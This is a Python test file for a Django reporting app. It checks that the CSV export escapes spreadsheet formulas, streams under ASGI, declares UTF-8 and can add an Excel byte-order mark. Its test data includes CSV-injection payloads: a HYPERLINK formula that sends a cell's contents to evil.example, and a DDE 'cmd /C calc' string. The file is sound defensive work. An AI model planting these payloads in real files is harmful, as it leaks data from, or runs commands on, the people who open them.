"""The reports CSV cannot carry a live spreadsheet formula (OWASP CSV injection), and real
numbers in it stay numbers."""

import csv
import io
from datetime import timedelta

import pytest
from django.test import Client
from django.urls import reverse
from frontend_scene import build_scene

from frontend.csvcells import SafeWriter, neutralise

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("-", "'-"),
        ("-inf", "'-inf"),
        ("-nan", "'-nan"),
        # plain numbers, also negative or signed, stay numeric
        ("-1.500000", "-1.500000"),
        ("+2", "+2"),
        ("-3e-4", "-3e-4"),
        ("-.5", "-.5"),
        # ordinary text is untouched
        ("resnet50 baseline", "resnet50 baseline"),
        ("a=b", "a=b"),
        ("", ""),
        (-1.5, -1.5),
        (None, None),
    ],
)
def test_cells_that_start_a_formula_are_neutralised(cell, written):
    assert neutralise(cell) == written


def test_the_safe_writer_round_trips_through_a_csv_reader():
    out = io.StringIO()
    SafeWriter(out).writerow(["=1+1", "-4.25", -4.25, "plain"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "-4.25", "-4.25", "plain"]


def test_the_reports_csv_writes_user_typed_names_as_text(admin_user):
    scene = build_scene()
    bert = scene.jobs["bert"]
    bert.name = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    bert.save(update_fields=["name"])
    scene.other_team.name = "+Language"
    scene.other_team.save(update_fields=["name"])
    owner = bert.owner
    owner.username = "@otto"
    owner.save(update_fields=["username"])

    client = Client()
    client.force_login(admin_user)
    start = (scene.now - timedelta(days=2)).date().isoformat()
    response = client.get(
        reverse("frontend:reports-csv"), {"start": start, "end": scene.now.date().isoformat()}
    )

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    job = next(r for r in rows if r["level"] == "job" and "HYPERLINK" in r["name"])
    assert job["name"] == "'" + bert.name
    assert job["team"] == "'+Language" and job["owner"] == "'@otto"
    assert {r["name"] for r in rows if r["level"] == "team"} >= {"'+Language"}
    assert {r["name"] for r in rows if r["level"] == "user"} >= {"'@otto"}
    # Energy and carbon are still plain numbers.
    assert all(float(r["energy_kwh"]) >= 0 and not r["energy_kwh"].startswith("'") for r in rows)
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())


def test_the_reports_csv_streams_under_asgi_as_safely(admin_user):
    # (under ASGI, which daphne serves the site with, Django reads a synchronous iterator
    # whole into a list before it sends a byte, with a warning each time: the CSV was not
    # streamed where it is served)
    from asgiref.sync import async_to_sync
    from django.test import AsyncClient

    scene = build_scene()
    bert = scene.jobs["bert"]
    bert.name = "=1+1"
    bert.save(update_fields=["name"])
    client = AsyncClient()
    client.force_login(admin_user)
    start = (scene.now - timedelta(days=2)).date().isoformat()
    query = {"start": start, "end": scene.now.date().isoformat()}

    response = async_to_sync(client.get)(reverse("frontend:reports-csv"), query)

    assert response.status_code == 200
    assert response.is_async  # served as it is read, not read whole first

    async def read(content):
        return [part async for part in content]

    parts = async_to_sync(read)(response.streaming_content)
    rows = list(csv.DictReader(io.StringIO(b"".join(parts).decode())))
    assert [r["level"] for r in rows] == ["team"] * 2 + ["user"] * 2 + ["job"] * 3
    assert next(r for r in rows if r["level"] == "job" and "1+1" in r["name"])["name"] == "'=1+1"
    assert len(parts) == 1 + len(rows)  # a part a line


def test_the_reports_csv_names_its_charset_so_unicode_names_read_back(admin_user):
    # The CSV is written in UTF-8, but its Content-Type said only "text/csv": an HTTP client
    # reads text without a charset as ISO-8859-1 (an eighth probe's client read a job named
    # "＝1+1" back as "ï¼\x9d1+1"), and so did the 400's text/plain.
    scene = build_scene()
    bert = scene.jobs["bert"]
    bert.name = "視覚 résumé ＝1+1"
    bert.save(update_fields=["name"])
    client = Client()
    client.force_login(admin_user)
    start = (scene.now - timedelta(days=2)).date().isoformat()

    response = client.get(
        reverse("frontend:reports-csv"), {"start": start, "end": scene.now.date().isoformat()}
    )
    refused = client.get(reverse("frontend:reports-csv"), {"start": "2026-13-01"})

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode(response.charset)
    assert bert.name in {r["name"] for r in csv.DictReader(io.StringIO(text))}
    assert refused.status_code == 400
    assert refused["Content-Type"] == "text/plain; charset=utf-8"


def test_the_reports_csv_for_excel_starts_with_a_byte_order_mark(admin_user):
    # Excel opens a saved CSV without a byte-order mark in the system's code page: the
    # job "視覚 résumé" read as mojibake (an eighth probe). ``?bom=1`` (the reports page's
    # "CSV for Excel") starts the file with one; without it, programs reading UTF-8 get no
    # U+FEFF in their first column name, as before.
    scene = build_scene()
    bert = scene.jobs["bert"]
    bert.name = "視覚 résumé"
    bert.save(update_fields=["name"])
    client = Client()
    client.force_login(admin_user)
    period = {"start": (scene.now - timedelta(days=2)).date().isoformat(),
              "end": scene.now.date().isoformat()}  # fmt: skip

    excel = client.get(reverse("frontend:reports-csv"), period | {"bom": "1"})
    excel = b"".join(excel.streaming_content)
    plain = b"".join(client.get(reverse("frontend:reports-csv"), period).streaming_content)
    refused = client.get(reverse("frontend:reports-csv"), period | {"bom": "yes"})

    assert excel.startswith(b"\xef\xbb\xbflevel,key,name,")
    assert excel[3:] == plain  # the same file after its mark
    assert bert.name in {r["name"] for r in csv.DictReader(io.StringIO(excel.decode("utf-8-sig")))}
    assert plain.startswith(b"level,key,name,")
    assert refused.status_code == 400
    assert refused.content.decode() == "bom: must be 0 or 1."
    page = client.get(reverse("frontend:reports"), period)
    assert "&amp;bom=1" in page.content.decode()
